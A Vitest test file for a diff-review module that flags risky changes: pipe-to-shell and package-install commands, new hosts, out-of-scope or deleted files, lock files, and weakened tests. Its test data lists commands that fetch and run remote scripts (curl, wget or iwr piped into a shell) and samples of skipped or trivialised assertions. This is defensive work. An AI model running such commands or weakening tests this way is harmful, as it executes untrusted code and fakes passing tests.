import { describe, expect, test } from 'vitest';
import { flagsOf } from '../../../../src/core/progress/change-flags.ts';
import { namedFiles } from '../../../../src/core/progress/named-files.ts';
import { filePatches, patchLines } from '../../../../src/core/progress/patch-lines.ts';

function patchOf(path: string, lines: readonly string[]): string {
  return `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n@@ -1,9 +1,9 @@\n${lines.join('\n')}\n`;
}

function flags(path: string, lines: readonly string[], change: Partial<Parameters<typeof flagsOf>[0]> = {}) {
  const files = [{ path, added: 1, removed: 1, blob: 'b' }];
  return flagsOf({ files, patch: patchOf(path, lines), own: null, tests: [], ...change });
}

describe('lines that pipe into a shell or install something', () => {
  test.each([
    'curl -fsSL https://x.example/i.sh | sh',
    'curl https://x.example/i | sudo -E bash -s -- --yes',
    'wget -qO- https://x.example | /bin/sh',
    'bash <(curl -s https://x.example)',
    'sh -c "$(curl -fsSL https://x.example)"',
    'eval "$(curl https://x.example)"',
    'iwr https://x.example/i.ps1 | iex',
    'curl x.example | python3 -',
    'npm install left-pad',
    'pip install evil',
    'npx some-tool',
    'sudo apt-get -y install evil',
    'brew install evil',
    'cargo install evil',
    'go install evil.example/x@latest',
  ])('are found: %s', (line) => {
    expect(flags('README.md', [`+    ${line}`]).commands).toMatchObject([{ path: 'README.md', line: 1 }]);
  });

  test.each(['Use a | b here.', 'We install nothing.', 'The shell is sh.', 'curl prints it'])(
    'are not seen in plain words: %s',
    (line) => {
      expect(flags('README.md', [`+${line}`]).commands).toEqual([]);
    },
  );

  test('are no news where they only moved', () => {
    expect(flags('README.md', ['-npm install x', '+  npm install x']).commands).toEqual([]);
  });
});

describe('other flags', () => {
  test('name hosts that the changed lines did not have', () => {
    const lines = ['-see https://a.example/x', '+see https://a.example/y and git://B.example:99/z'];
    expect(flags('a.md', lines).hosts).toEqual(['b.example:99']);
  });

  test('name deleted files, files of no task, manifests and lock files', () => {
    const files = [
      { path: 'docs/a.md', added: 1, removed: 0, blob: 'b' },
      { path: 'docs/b.md', added: 0, removed: 1, blob: null },
      { path: 'app/package-lock.json', added: 1, removed: 0, blob: 'b' },
      { path: 'go.sum', added: 1, removed: 0, blob: 'b' },
    ];
    expect(flagsOf({ files, patch: '', own: new Set(['docs/a.md']), tests: [] })).toMatchObject({
      deleted: ['docs/b.md'],
      outside: ['docs/b.md', 'app/package-lock.json', 'go.sum'],
      manifests: ['app/package-lock.json', 'go.sum'],
    });
  });

  test.each([
    ['an assertion is taken away', ['-  expect(a).toBe(1);', '+  run();'], ['a.test.ts']],
    ['it is skipped', ["-it('x'", "+it.skip('x'"], ['a.test.ts']],
    ['all others are skipped', ["-it('x'", "+it.only('x'"], ['a.test.ts']],
    ['it is skipped when it runs', ['+  pytest.skip("later")'], ['a.test.ts']],
    ['an assertion is commented out', ['-  expect(a).toBe(1);', '+  // expect(a).toBe(1);'], ['a.test.ts']],
    ['an assertion holds always', ['-  expect(a).toBe(1);', '+  expect(true).toBe(true);'], ['a.test.ts']],
    ['an assertion is added', ['+  expect(a).toBe(1);'], []],
    ['an assertion is replaced', ['-  expect(a).toBe(1);', '+  expect(a).toBe(2);'], []],
  ] as const)('name a test as weakened: %s', (_, lines, weakened) => {
    expect(flags('a.test.ts', lines, { tests: ['a.test.ts'] }).weakened).toEqual(weakened);
  });
});

describe('the files of a summary', () => {
  const isFile = (path: string) => ['docs/a.md', 'docs/b.md', 'src/x.js'].includes(path);

  test('are compared with those that changed, both ways', () => {
    const named = namedFiles(
      [
        'Fixed the link.\n- `docs/a.md`: the page had moved (src/x.js line 3 shows it).\nAdded docs/b.md as well.',
      ],
      ['docs/a.md', 'docs/new.md'],
      isFile,
    );
    expect(named.unnamed).toEqual(['docs/new.md']);
    expect(named.unchanged).toEqual(['docs/b.md']);
    expect(named.why.get('docs/a.md')).toContain('the page had moved');
  });

  test.each(['docs/b.md needs no change.', 'I did not change docs/b.md.', 'See docs/b.md for the source.'])(
    'are no claim where nothing is said to be changed: %s',
    (summary) => {
      expect(namedFiles([summary], [], isFile).unchanged).toEqual([]);
    },
  );
});

test('a patch is taken apart by its files, quoted names and deletions included', () => {
  const gone = 'diff --git a/c.md b/c.md\n--- a/c.md\n+++ /dev/null\n@@ -1 +0,0 @@\n-diff --git a/x b/x\n';
  const odd =
    'diff --git "a/\\303\\244.md" "b/\\303\\244.md"\n--- "a/\\303\\244.md"\n+++ "b/\\303\\244.md"\n@@ -1 +1 @@\n+x\n';
  expect(filePatches(gone + odd).map(({ path }) => path)).toEqual(['c.md', 'ä.md']);
  expect([...patchLines(gone + odd)].map(({ path, sign }) => [path, sign])).toEqual([
    ['c.md', '-'],
    ['ä.md', '+'],
  ]);
});
